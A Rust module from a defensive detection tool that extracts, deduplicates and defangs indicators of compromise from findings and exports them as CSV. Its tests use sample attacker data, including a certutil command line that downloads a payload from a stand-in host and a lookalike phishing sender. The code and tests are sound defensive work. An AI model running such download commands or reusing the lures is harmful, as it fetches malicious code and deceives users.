//! Indicators of compromise extracted from findings (and incident entities): file hashes, IP
//! addresses, domains, URLs, mail senders, file paths, named pipes, service and task names.
//!
//! Indicators are deduplicated (case-insensitively where the kind is), with first and last
//! sighting, count, hosts and the rules whose findings carried them. Values stay raw here and
//! in machine-facing outputs (STIX, the CSV `value` column); human-facing outputs show
//! [`defang`]ed values (`hxxps://evil[.]com`, `1.2.3[.]4`, `user[@]evil[.]com`).
//!
//! Everything here comes from evidence and is treated as hostile: values are length-capped,
//! the number of distinct indicators is capped ([`MAX_INDICATORS`]), and nested detail values
//! are walked to a fixed depth.

use dragnet_event::{Finding, Provenance, Timestamp};
use dragnet_incident::IncidentReport;
use serde::Serialize;
use std::collections::HashMap;
use std::io::Write;
use std::net::IpAddr;

/// Distinct indicators kept; further ones are counted in [`Indicators::omitted`].
pub const MAX_INDICATORS: usize = 50_000;
/// Longest value considered (longer strings are not indicators anyone can use).
pub const MAX_VALUE_LEN: usize = 2048;
/// Hosts, rules and sources kept per indicator.
pub const MAX_PER_INDICATOR: usize = 20;

/// What an indicator is.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum IocKind {
    Sha256,
    Sha1,
    Md5,
    Ipv4,
    Ipv6,
    Domain,
    Url,
    Email,
    FilePath,
    NamedPipe,
    Service,
    Task,
}

impl IocKind {
    pub const ALL: [IocKind; 12] = [
        IocKind::Sha256,
        IocKind::Sha1,
        IocKind::Md5,
        IocKind::Ipv4,
        IocKind::Ipv6,
        IocKind::Domain,
        IocKind::Url,
        IocKind::Email,
        IocKind::FilePath,
        IocKind::NamedPipe,
        IocKind::Service,
        IocKind::Task,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            IocKind::Sha256 => "sha256",
            IocKind::Sha1 => "sha1",
            IocKind::Md5 => "md5",
            IocKind::Ipv4 => "ipv4",
            IocKind::Ipv6 => "ipv6",
            IocKind::Domain => "domain",
            IocKind::Url => "url",
            IocKind::Email => "email",
            IocKind::FilePath => "file-path",
            IocKind::NamedPipe => "named-pipe",
            IocKind::Service => "service",
            IocKind::Task => "task",
        }
    }

    /// Whether two values of this kind that differ only in case are the same indicator.
    fn case_insensitive(self) -> bool {
        !matches!(self, IocKind::Url)
    }
}

/// One deduplicated indicator.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Indicator {
    pub kind: IocKind,
    /// The raw value (hashes, domains, addresses normalised to lower case).
    pub value: String,
    pub first: Timestamp,
    pub last: Timestamp,
    /// Findings that carried it (incident entities alone count 0).
    pub count: u64,
    /// Hosts of those findings, sorted (at most [`MAX_PER_INDICATOR`]).
    pub hosts: Vec<String>,
    /// Titles of the rules whose findings carried it (at most [`MAX_PER_INDICATOR`]).
    pub rules: Vec<String>,
    /// Detail fields it was read from (`Hashes`, `QueryName`, `incident` for entities).
    pub fields: Vec<String>,
    /// For IP addresses: not globally routable (RFC 1918, loopback, link-local, CGNAT, ULA).
    pub private: bool,
    /// The first records it was seen in (at most [`MAX_PER_INDICATOR`]).
    pub sources: Vec<Provenance>,
}

impl Indicator {
    /// The value made safe to show to people (not clickable, not resolvable).
    pub fn defanged(&self) -> String {
        defang(self.kind, &self.value)
    }
}

/// The indicators of a run.
#[derive(Clone, Debug, Default, PartialEq, Serialize)]
pub struct Indicators {
    /// Ordered by kind, then first sighting, then value.
    pub items: Vec<Indicator>,
    /// Distinct indicators left out beyond [`MAX_INDICATORS`].
    pub omitted: u64,
}

impl Indicators {
    /// Indicators fit to share: everything but private IP addresses.
    pub fn shareable(&self) -> impl Iterator<Item = &Indicator> {
        self.items.iter().filter(|i| !i.private)
    }
}

/// Extract, deduplicate and order the indicators of `findings` and of the incidents' entities.
pub fn extract(findings: &[Finding], incidents: &IncidentReport) -> Indicators {
    let mut acc = Accumulator::default();
    let mut found: Vec<(IocKind, String, String)> = Vec::new();
    for f in findings {
        acc.add_finding(f, &mut found);
    }
    acc.add_incidents(incidents);
    acc.finish()
}

/// Indicators gathered one finding at a time (at most [`MAX_INDICATORS`]).
#[derive(Default)]
pub(crate) struct Accumulator {
    index: HashMap<(IocKind, String), usize>,
    items: Vec<Indicator>,
    omitted: HashMap<(IocKind, String), ()>,
}

impl Accumulator {
    /// The indicators in one finding's details (`found` is scratch space).
    pub(crate) fn add_finding(&mut self, f: &Finding, found: &mut Vec<(IocKind, String, String)>) {
        found.clear();
        for (field, value) in &f.details {
            collect(field, value, 0, found);
        }
        for (kind, value, field) in found.drain(..) {
            self.add(kind, value, &field, Some(f));
        }
    }

    /// The addresses, domains and mailboxes of the incidents' entities.
    pub(crate) fn add_incidents(&mut self, incidents: &IncidentReport) {
        for inc in &incidents.incidents {
            let e = &inc.entities;
            let lists = [
                (&e.ips, None),
                (&e.domains, Some(IocKind::Domain)),
                (&e.mailboxes, Some(IocKind::Email)),
            ];
            for (list, kind) in lists {
                for v in list.iter() {
                    let parsed = match kind {
                        None => ip(v),
                        Some(IocKind::Domain) => domain(v).map(|d| (IocKind::Domain, d)),
                        Some(_) => email(v).map(|m| (IocKind::Email, m)),
                    };
                    if let Some((k, value)) = parsed {
                        self.add_entity(k, value, inc.first, inc.last);
                    }
                }
            }
        }
    }

    fn slot(&mut self, kind: IocKind, value: String, t: Timestamp) -> Option<&mut Indicator> {
        let key_value = if kind.case_insensitive() {
            value.to_lowercase()
        } else {
            value.clone()
        };
        let key = (kind, key_value);
        if let Some(&i) = self.index.get(&key) {
            return Some(&mut self.items[i]);
        }
        if self.items.len() >= MAX_INDICATORS {
            // Count distinct omissions, without letting the map itself grow without bound.
            if self.omitted.len() < MAX_INDICATORS {
                self.omitted.insert(key, ());
            }
            return None;
        }
        let private = match kind {
            IocKind::Ipv4 | IocKind::Ipv6 => {
                value.parse::<IpAddr>().map(is_private).unwrap_or(false)
            }
            _ => false,
        };
        self.index.insert(key, self.items.len());
        self.items.push(Indicator {
            kind,
            value,
            first: t,
            last: t,
            count: 0,
            hosts: Vec::new(),
            rules: Vec::new(),
            fields: Vec::new(),
            private,
            sources: Vec::new(),
        });
        self.items.last_mut()
    }

    fn add(&mut self, kind: IocKind, value: String, field: &str, f: Option<&Finding>) {
        let t = f.map(|f| f.time).unwrap_or_default();
        let Some(ind) = self.slot(kind, value, t) else {
            return;
        };
        if t < ind.first {
            ind.first = t;
        }
        if t > ind.last {
            ind.last = t;
        }
        push_bounded(&mut ind.fields, field);
        if let Some(f) = f {
            ind.count += 1;
            if !f.host.is_empty() {
                push_bounded(&mut ind.hosts, &f.host);
            }
            push_bounded(&mut ind.rules, &f.rule.title);
            if ind.sources.len() < MAX_PER_INDICATOR && !ind.sources.contains(&f.source) {
                ind.sources.push(f.source.clone());
            }
        }
    }

    fn add_entity(&mut self, kind: IocKind, value: String, first: Timestamp, last: Timestamp) {
        let Some(ind) = self.slot(kind, value, first) else {
            return;
        };
        if ind.count == 0 {
            ind.first = first.min(ind.first);
            ind.last = last.max(ind.last);
        }
        push_bounded(&mut ind.fields, "incident");
    }

    pub(crate) fn finish(self) -> Indicators {
        let mut items = self.items;
        for i in &mut items {
            i.hosts.sort();
        }
        items.sort_by(|a, b| {
            a.kind
                .cmp(&b.kind)
                .then(a.first.cmp(&b.first))
                .then_with(|| a.value.cmp(&b.value))
        });
        Indicators {
            items,
            omitted: self.omitted.len() as u64,
        }
    }
}

fn push_bounded(list: &mut Vec<String>, v: &str) {
    if list.len() < MAX_PER_INDICATOR && !list.iter().any(|x| x == v) {
        list.push(v.to_string());
    }
}

/// Walk one detail value (to depth 3) and collect the indicators it holds.
fn collect(
    field: &str,
    value: &serde_json::Value,
    depth: usize,
    out: &mut Vec<(IocKind, String, String)>,
) {
    match value {
        serde_json::Value::String(s) => collect_str(field, s, out),
        serde_json::Value::Array(a) if depth < 3 => {
            for v in a.iter().take(1000) {
                collect(field, v, depth + 1, out);
            }
        }
        serde_json::Value::Object(o) if depth < 3 => {
            for (k, v) in o.iter().take(1000) {
                collect(k, v, depth + 1, out);
            }
        }
        _ => {}
    }
}

fn collect_str(field: &str, s: &str, out: &mut Vec<(IocKind, String, String)>) {
    let s = s.trim();
    if s.is_empty() || s == "-" || s.len() > MAX_VALUE_LEN {
        return;
    }
    let name = field
        .rsplit(['.', '/'])
        .next()
        .unwrap_or(field)
        .to_ascii_lowercase();
    let mut push = |k: IocKind, v: String| out.push((k, v, field.to_string()));
    // Addresses: any value that is exactly an IP address.
    if let Some((k, v)) = ip(s) {
        push(k, v);
        return;
    }
    match name.as_str() {
        "hashes" | "hash" | "hashes_sha256" | "md5" | "sha1" | "sha256" | "sha-256"
        | "file_hash" | "filehash" | "sha-1" => {
            for (k, v) in hashes(s) {
                push(k, v);
            }
            return;
        }
        "queryname"
        | "query"
        | "destinationhostname"
        | "dst"
        | "domain"
        | "server_name"
        | "sni"
        | "long_connection_sni"
        | "http_host"
        | "cs-host"
        | "remote_host"
        | "dns_query"
        | "request_host"
        | "url_domain" => {
            if let Some(d) = domain(s) {
                push(IocKind::Domain, d);
            }
        }
        "from" | "sender" | "mail_from" | "mailfrom" | "senderaddress" | "sender_address"
        | "return_path" | "return-path" | "envelope_from" | "smtp_from" | "p1sender" => {
            if let Some(m) = email(s) {
                push(IocKind::Email, m);
            }
            return;
        }
        "targetfilename" | "servicefilename" | "imagepath" | "file_path" | "filepath"
        | "attachment_path" => {
            if let Some(p) = file_path(s) {
                push(IocKind::FilePath, p);
            }
            return;
        }
        "image" | "newprocessname" | "imageloaded" => {
            if let Some(p) = file_path(s) {
                if !is_system_binary(&p) {
                    push(IocKind::FilePath, p);
                }
            }
            return;
        }
        "pipename" => {
            if s.len() > 1 {
                push(IocKind::NamedPipe, s.to_string());
            }
            return;
        }
        "servicename" => {
            push(IocKind::Service, s.to_string());
            return;
        }
        "taskname" => {
            push(IocKind::Task, s.to_string());
            return;
        }
        _ => {}
    }
    // URLs anywhere in text (command lines, script blocks, explanations, mail bodies).
    for u in urls_in(s) {
        if let Some(host) = url_host(&u) {
            if let Some((k, v)) = ip(&host) {
                push(k, v);
            } else if let Some(d) = domain(&host) {
                push(IocKind::Domain, d);
            }
        }
        push(IocKind::Url, u);
    }
}

/// An IP address (v4, v6, or v6 in brackets), canonical form.
fn ip(s: &str) -> Option<(IocKind, String)> {
    let t = s.trim().trim_start_matches('[').trim_end_matches(']');
    match t.parse::<IpAddr>().ok()? {
        IpAddr::V4(a) if !a.is_unspecified() && !a.is_broadcast() => {
            Some((IocKind::Ipv4, a.to_string()))
        }
        IpAddr::V6(a) if !a.is_unspecified() => match a.to_ipv4_mapped() {
            Some(v4) => Some((IocKind::Ipv4, v4.to_string())),
            None => Some((IocKind::Ipv6, a.to_string())),
        },
        _ => None,
    }
}

/// Not globally routable: private, loopback, link-local, shared (CGNAT), unique-local.
pub fn is_private(a: IpAddr) -> bool {
    match a {
        IpAddr::V4(a) => {
            let o = a.octets();
            a.is_private()
                || a.is_loopback()
                || a.is_link_local()
                || (o[0] == 100 && (64..128).contains(&o[1]))
                || o[0] == 0
        }
        IpAddr::V6(a) => {
            let s = a.segments();
            a.is_loopback() || (s[0] & 0xfe00) == 0xfc00 || (s[0] & 0xffc0) == 0xfe80
        }
    }
}

/// Hashes in a Sysmon `Hashes` value (`SHA1=..,MD5=..,SHA256=..,IMPHASH=..`) or a bare hash.
fn hashes(s: &str) -> Vec<(IocKind, String)> {
    let mut out = Vec::new();
    for part in s.split([',', ';', ' ', '|']) {
        let (alg, h) = match part.split_once('=') {
            Some((a, h)) => (a.trim().to_ascii_uppercase(), h.trim()),
            None => (String::new(), part.trim()),
        };
        if alg == "IMPHASH" || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
            continue;
        }
        let kind = match h.len() {
            32 => IocKind::Md5,
            40 => IocKind::Sha1,
            64 => IocKind::Sha256,
            _ => continue,
        };
        // An all-zero hash is a placeholder, not a file.
        if h.bytes().all(|b| b == b'0') {
            continue;
        }
        out.push((kind, h.to_ascii_lowercase()));
    }
    out
}

/// A DNS name: at least two labels, letters/digits/hyphens/underscores, an alphabetic TLD.
pub fn domain(s: &str) -> Option<String> {
    let d = s.trim().trim_end_matches('.').to_ascii_lowercase();
    if d.len() < 4 || d.len() > 253 || !d.contains('.') {
        return None;
    }
    let labels: Vec<&str> = d.split('.').collect();
    for l in &labels {
        if l.is_empty()
            || l.len() > 63
            || !l
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
        {
            return None;
        }
    }
    let tld = labels.last()?;
    if tld.len() < 2 || !tld.bytes().all(|b| b.is_ascii_alphabetic()) {
        return None;
    }
    // File names that look like names (`config.ini`, `payload.exe`) are not domains.
    const FILE_EXT: [&str; 14] = [
        "exe", "dll", "ini", "txt", "log", "bat", "ps1", "vbs", "js", "lnk", "zip", "tmp", "dat",
        "sys",
    ];
    if labels.len() == 2 && FILE_EXT.contains(tld) {
        return None;
    }
    Some(d)
}

/// A mail address from `Name <user@host>` or a bare address, lower-cased.
pub fn email(s: &str) -> Option<String> {
    let s = s.trim();
    let inner = match (s.rfind('<'), s.rfind('>')) {
        (Some(a), Some(b)) if a < b => &s[a + 1..b],
        _ => s,
    };
    let inner = inner.trim().trim_matches('"');
    let (local, host) = inner.rsplit_once('@')?;
    if local.is_empty()
        || local.len() > 64
        || local.contains(char::is_whitespace)
        || local.contains(['<', '>', '"', '\''])
    {
        return None;
    }
    let host = domain(host)?;
    Some(format!("{}@{host}", local.to_lowercase()))
}

/// A Windows or POSIX path: the quoted part of a quoted command, else the value itself.
fn file_path(s: &str) -> Option<String> {
    let s = s.trim();
    let p = if let Some(rest) = s.strip_prefix('"') {
        rest.split('"').next().unwrap_or("")
    } else {
        s
    };
    let b = p.as_bytes();
    let windows = b.len() > 3 && b[0].is_ascii_alphabetic() && b[1] == b':' && b[2] == b'\\';
    let unc = p.starts_with("\\\\");
    let posix = p.starts_with('/') && p.len() > 1;
    let env = p.starts_with('%');
    (windows || unc || posix || env).then(|| p.to_string())
}

/// Stock Windows binaries (living-off-the-land tools are behaviours, not indicators).
fn is_system_binary(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    [
        "c:\\windows\\system32\\",
        "c:\\windows\\syswow64\\",
        "c:\\windows\\winsxs\\",
        "c:\\windows\\microsoft.net\\",
        "c:\\windows\\assembly\\",
        "c:\\program files\\",
        "c:\\program files (x86)\\",
    ]
    .iter()
    .any(|pre| l.starts_with(pre))
        || l == "c:\\windows\\explorer.exe"
}

/// URLs (`http`, `https`, `ftp`) in free text.
pub fn urls_in(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let lower = s.to_ascii_lowercase();
    let mut from = 0;
    while out.len() < 50 {
        let next = ["http://", "https://", "ftp://"]
            .iter()
            .filter_map(|p| lower[from..].find(p).map(|i| from + i))
            .min();
        let Some(start) = next else { break };
        let end = s[start..]
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '|' | '^' | '\\')
            })
            .map(|i| start + i)
            .unwrap_or(s.len());
        let u = s[start..end].trim_end_matches(['.', ',', ';', ')', ']', '}']);
        if url_host(u).is_some() {
            out.push(u.to_string());
        }
        from = end.max(start + 1);
        if from >= s.len() {
            break;
        }
    }
    out
}

/// The host part of a URL (without user info or port).
fn url_host(u: &str) -> Option<String> {
    let rest = u.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host_port.split(':').next()?
    };
    (!host.is_empty()).then(|| host.to_string())
}

/// Defang a value for people: `hxxps://evil[.]com/x`, `1.2.3[.]4`, `user[@]evil[.]com`.
pub fn defang(kind: IocKind, value: &str) -> String {
    match kind {
        IocKind::Domain => value.replace('.', "[.]"),
        IocKind::Ipv4 => match value.rfind('.') {
            Some(i) => format!("{}[.]{}", &value[..i], &value[i + 1..]),
            None => value.to_string(),
        },
        IocKind::Ipv6 => value.replace(':', "[:]"),
        IocKind::Email => match value.rsplit_once('@') {
            Some((l, d)) => format!("{l}[@]{}", d.replace('.', "[.]")),
            None => value.to_string(),
        },
        IocKind::Url => defang_url(value),
        _ => value.to_string(),
    }
}

fn defang_url(u: &str) -> String {
    let Some((scheme, rest)) = u.split_once("://") else {
        return u.replace('.', "[.]");
    };
    let scheme = match scheme.to_ascii_lowercase().as_str() {
        "http" => "hxxp".to_string(),
        "https" => "hxxps".to_string(),
        "ftp" => "fxp".to_string(),
        other => other.replace('t', "x"),
    };
    let split = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(split);
    format!("{scheme}://{}{path}", authority.replace('.', "[.]"))
}

/// Write the indicators as CSV: `kind,value,defanged,scope,count,first_seen,last_seen,hosts,
/// rules,fields,sources` (lists joined with `; `). The `defanged` column, meant for people
/// opening the file in a spreadsheet, is also guarded against formula injection.
pub fn write_csv<W: Write>(out: W, iocs: &Indicators) -> std::io::Result<()> {
    let mut w = csv::Writer::from_writer(out);
    let map = |e: csv::Error| std::io::Error::other(e.to_string());
    w.write_record([
        "kind",
        "value",
        "defanged",
        "scope",
        "count",
        "first_seen",
        "last_seen",
        "hosts",
        "rules",
        "fields",
        "sources",
    ])
    .map_err(map)?;
    for i in &iocs.items {
        let scope = match i.kind {
            IocKind::Ipv4 | IocKind::Ipv6 if i.private => "private",
            IocKind::Ipv4 | IocKind::Ipv6 => "public",
            _ => "",
        };
        let sources: Vec<String> = i
            .sources
            .iter()
            .map(|p| format!("{}#{}", p.path, p.record))
            .collect();
        w.write_record([
            i.kind.as_str(),
            &i.value,
            &spreadsheet_safe(&i.defanged()),
            scope,
            &i.count.to_string(),
            &i.first.to_string(),
            &i.last.to_string(),
            &i.hosts.join("; "),
            &i.rules.join("; "),
            &i.fields.join("; "),
            &sources.join("; "),
        ])
        .map_err(map)?;
    }
    w.flush()
}

fn spreadsheet_safe(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dragnet_event::{Level, RuleMeta, SourceFormat};
    use std::sync::Arc;

    fn finding(host: &str, t: &str, details: serde_json::Value) -> Finding {
        let rule = Arc::new(RuleMeta {
            id: "r1".into(),
            title: "Rule one".into(),
            author: "someone".into(),
            ..Default::default()
        });
        let mut f = Finding::new(
            rule,
            Level::High,
            Timestamp::parse(t).unwrap(),
            host,
            Provenance {
                path: "e.jsonl".into(),
                record: 3,
                format: SourceFormat::Jsonl,
            },
        );
        f.details = details.as_object().unwrap().clone();
        f
    }

    #[test]
    fn defanging_follows_the_usual_conventions() {
        assert_eq!(
            defang(IocKind::Url, "https://evil.com/a.b?c=d.e"),
            "hxxps://evil[.]com/a.b?c=d.e"
        );
        assert_eq!(
            defang(IocKind::Url, "http://1.2.3.4:8080/x"),
            "hxxp://1[.]2[.]3[.]4:8080/x"
        );
        assert_eq!(defang(IocKind::Ipv4, "1.2.3.4"), "1.2.3[.]4");
        assert_eq!(defang(IocKind::Domain, "evil.com"), "evil[.]com");
        assert_eq!(defang(IocKind::Email, "user@evil.com"), "user[@]evil[.]com");
        assert_eq!(defang(IocKind::Sha256, "ab"), "ab");
    }

    #[test]
    fn extracts_and_deduplicates_from_real_field_shapes() {
        let findings = vec![
            finding(
                "WS1",
                "2024-05-01T10:00:00Z",
                serde_json::json!({
                    "Hashes": "SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00000000000000000000000000000000",
                    "CommandLine": "certutil -urlcache -split -f https://evil.example.com/p.bin C:\\ProgramData\\p.bin",
                    "Image": "C:\\Windows\\System32\\certutil.exe",
                    "DestinationIp": "47.83.8.198",
                    "SourceIp": "10.1.2.3",
                    "QueryName": "Support.Fortineat.com.",
                }),
            ),
            finding(
                "WS2",
                "2024-05-01T09:00:00Z",
                serde_json::json!({
                    "QueryName": "support.fortineat.com",
                    "PipeName": "\\E340C955-15B6",
                    "ServiceName": "WindowsTempUpdate",
                    "TaskName": "\\Microsoft\\Windows\\AppID\\EPolicyManager",
                    "ImagePath": "\"C:\\Windows\\rdrdhd.exe\" -k",
                    "from": "IT Support <Helpdesk@Fortineat.com>",
                    "server_ips": ["20.42.73.29"],
                    "TargetFilename": "config.ini",
                }),
            ),
        ];
        let iocs = extract(&findings, &IncidentReport::default());
        let get = |k: IocKind| -> Vec<&str> {
            iocs.items
                .iter()
                .filter(|i| i.kind == k)
                .map(|i| i.value.as_str())
                .collect()
        };
        assert_eq!(
            get(IocKind::Sha1),
            ["a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"]
        );
        assert_eq!(get(IocKind::Md5), ["098f6bcd4621d373cade4e832627b4f6"]);
        assert_eq!(get(IocKind::Sha256).len(), 1);
        assert_eq!(get(IocKind::Url), ["https://evil.example.com/p.bin"]);
        assert_eq!(
            get(IocKind::Domain),
            ["support.fortineat.com", "evil.example.com"]
        );
        assert_eq!(
            get(IocKind::Ipv4),
            ["20.42.73.29", "10.1.2.3", "47.83.8.198"]
        );
        assert_eq!(get(IocKind::Email), ["helpdesk@fortineat.com"]);
        assert_eq!(get(IocKind::FilePath), ["C:\\Windows\\rdrdhd.exe"]);
        assert_eq!(get(IocKind::NamedPipe), ["\\E340C955-15B6"]);
        assert_eq!(get(IocKind::Service), ["WindowsTempUpdate"]);
        assert_eq!(
            get(IocKind::Task),
            ["\\Microsoft\\Windows\\AppID\\EPolicyManager"]
        );
        let d = iocs
            .items
            .iter()
            .find(|i| i.value == "support.fortineat.com")
            .unwrap();
        assert_eq!(d.count, 2);
        assert_eq!(d.hosts, ["WS1", "WS2"]);
        assert_eq!(d.first.to_string(), "2024-05-01T09:00:00Z");
        assert_eq!(d.last.to_string(), "2024-05-01T10:00:00Z");
        let private: Vec<bool> = iocs
            .items
            .iter()
            .filter(|i| i.kind == IocKind::Ipv4)
            .map(|i| i.private)
            .collect();
        assert_eq!(private, [false, true, false]);
        assert_eq!(
            iocs.shareable().filter(|i| i.kind == IocKind::Ipv4).count(),
            2
        );
    }

    #[test]
    fn csv_keeps_raw_values_beside_defanged_ones() {
        let f = finding(
            "WS1",
            "2024-05-01T10:00:00Z",
            serde_json::json!({"CommandLine": "x https://a.b.com/=cmd"}),
        );
        let iocs = extract(&[f], &IncidentReport::default());
        let mut buf = Vec::new();
        write_csv(&mut buf, &iocs).unwrap();
        let text = String::from_utf8(buf).unwrap();
        let mut lines = text.lines();
        assert_eq!(
            lines.next().unwrap(),
            "kind,value,defanged,scope,count,first_seen,last_seen,hosts,rules,fields,sources"
        );
        assert!(text.contains("domain,a.b.com,a[.]b[.]com,,1,"), "{text}");
        assert!(
            text.contains("url,https://a.b.com/=cmd,hxxps://a[.]b[.]com/=cmd,"),
            "{text}"
        );
    }

    #[test]
    fn hostile_values_are_bounded() {
        let long = "http://".to_string() + &"a".repeat(10_000) + ".com";
        let f = finding(
            "H",
            "2024-05-01T10:00:00Z",
            serde_json::json!({"x": long, "Hashes": "MD5=zz"}),
        );
        let iocs = extract(&[f], &IncidentReport::default());
        assert!(iocs.items.is_empty());
        assert!(domain("config.ini").is_none());
        assert!(domain("1.2.3.4").is_none());
        assert!(email("a b@c.com").is_none());
        assert_eq!(email("\"X\" <A@B.example>").as_deref(), Some("a@b.example"));
    }
}
